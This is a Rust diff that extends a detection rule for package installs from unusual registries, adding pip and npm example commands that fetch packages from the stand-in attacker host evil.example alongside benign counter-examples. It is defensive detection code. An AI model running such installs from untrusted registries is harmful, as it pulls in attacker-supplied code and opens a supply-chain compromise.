@@ -275,9 +275,19 @@ pub(super) const RULES: &[Rule] = &[
     rule(
         RuleId::ForeignRegistry,
         Ask,
-        "Packages come from an unusual place without encryption",
+        "Packages come from an unusual place",
         "Use the registry of the project.",
-        &["pip install -i http://evil.example/simple x"],
-        &["pip install -i https://pypi.org/simple x"],
+        &[
+            "pip install -i http://evil.example/simple x",
+            "npm install --registry https://evil.example x",
+            "npm config set registry http://evil.example",
+            "pip install git+https://evil.example/x.git",
+        ],
+        &[
+            "pip install -i https://pypi.org/simple x",
+            "npm ci --registry https://npm.pkg.github.com",
+            "pip install git+https://github.com/psf/black",
+            "npm install --registry http://localhost:4873 x",
+        ],
     ),
 ];
